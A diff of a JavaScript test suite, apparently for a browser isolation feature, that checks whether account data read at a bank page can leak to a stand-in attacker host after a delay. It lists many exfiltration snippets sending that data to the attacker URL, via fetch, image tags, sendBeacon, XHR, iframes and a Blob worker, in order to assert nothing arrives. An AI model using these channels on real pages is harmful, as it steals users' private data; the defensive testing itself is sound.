@@ -20,6 +20,12 @@ parent.postMessage('listening', '*');`;
 const [SLOW, SLOW_CODE] = ['slow.example', 'slow-code.example'];
 const ELSEWHERE = 'elsewhere.example';
 const ATTACKER = `http://${HOSTS.attacker}`;
+const PLAIN_WAYS = [
+  `await fetch('${ATTACKER}/c/body', { method: 'POST', mode: 'no-cors', body: D })`,
+  `await fetch('${ATTACKER}/c?d=' + encodeURIComponent(D), { mode: 'no-cors' })`,
+  `new Image().src = '${ATTACKER}/c?d=' + encodeURIComponent(D)`,
+  `navigator.sendBeacon('${ATTACKER}/c', D)`,
+];
 /** Later than any document is fresh. */
 const STALE_MS = 4_300;
 
@@ -124,13 +130,7 @@ describe('after a private read at the bank, where nobody is signed in', () => {
     await scene.hands.wait(STALE_MS);
     await evaluate(`await fetch('${ATTACKER}/c/plain', { mode: 'no-cors' })`);
     assert.ok(arrived('/c/plain'), 'the place was not reached');
-    for (const way of [
-      `await fetch('${ATTACKER}/c/body', { method: 'POST', mode: 'no-cors', body: D })`,
-      `await fetch('${ATTACKER}/c?d=' + encodeURIComponent(D), { mode: 'no-cors' })`,
-      `new Image().src = '${ATTACKER}/c?d=' + encodeURIComponent(D)`,
-      `navigator.sendBeacon('${ATTACKER}/c', D)`,
-    ])
-      await evaluate(`const D = ${JSON.stringify(account)}; ${way}`);
+    for (const way of PLAIN_WAYS) await evaluate(`const D = ${JSON.stringify(account)}; ${way}`);
     await scene.hands.wait(1_000);
     assert.deepEqual(leaked(sites.collector.records, SECRETS), []);
   });
@@ -146,13 +146,10 @@ describe('after a private read at the bank, where nobody is signed in', () => {
     await evaluate(`document.body.insertAdjacentHTML('beforeend', '<img src="${ATTACKER}/c/picture">')`);
     await until(async () => arrived('/c/plain') && arrived('/c/picture'), 'what carries nothing');
     for (const way of [
-      `await fetch('${ATTACKER}/c/body', { method: 'POST', mode: 'no-cors', body: D })`,
-      `await fetch('${ATTACKER}/c?d=' + encodeURIComponent(D), { mode: 'no-cors' })`,
+      ...PLAIN_WAYS,
       `await fetch('${ATTACKER}/c?d=' + btoa(D), { mode: 'no-cors' })`,
-      `new Image().src = '${ATTACKER}/c?d=' + encodeURIComponent(D)`,
       `document.body.insertAdjacentHTML('beforeend', '<img src="${ATTACKER}/c?d=' + encodeURIComponent(D) + '">')`,
       `document.body.appendChild(document.createElement('iframe')).src = '${ATTACKER}/c?d=' + encodeURIComponent(D)`,
-      `navigator.sendBeacon('${ATTACKER}/c', D)`,
       `const x = new XMLHttpRequest(); x.open('POST', '${ATTACKER}/c'); x.send(D)`,
       `const f = document.body.appendChild(document.createElement('iframe')); f.contentWindow.fetch('${ATTACKER}/c', { method: 'POST', mode: 'no-cors', body: D })`,
       `new Worker(URL.createObjectURL(new Blob(['fetch("${ATTACKER}/c", { method: "POST", mode: "no-cors", body: ' + JSON.stringify(D) + ' })'])))`,
@@ -162,6 +159,19 @@ describe('after a private read at the bank, where nobody is signed in', () => {
       await evaluate(`const D = ${JSON.stringify(account)}; ${way}`);
     await scene.hands.wait(1_500);
     assert.deepEqual(leaked(sites.collector.records, SECRETS), []);
+  });
+
+  test('a signed-in page sends a message by its interface elsewhere, first used late', {
+    timeout: 60_000,
+  }, async () => {
+    await scene.hands.goto(`http://${APP}/`);
+    await scene.hands.wait(STALE_MS);
+    await evaluate(`await fetch('http://${PAY_API}/send', { method: 'POST', mode: 'no-cors',
+      body: JSON.stringify({ to: 'ann@mail.example', body: 'Lunch at twelve?' }) })`);
+    await until(
+      async () => scene.world.visits.some(({ site, path }) => site === PAY_API && path === '/send'),
+      'the message',
+    );
   });
 
   test('a frame that a signed-in page opens late is told nothing of the page, by a message or a port', {
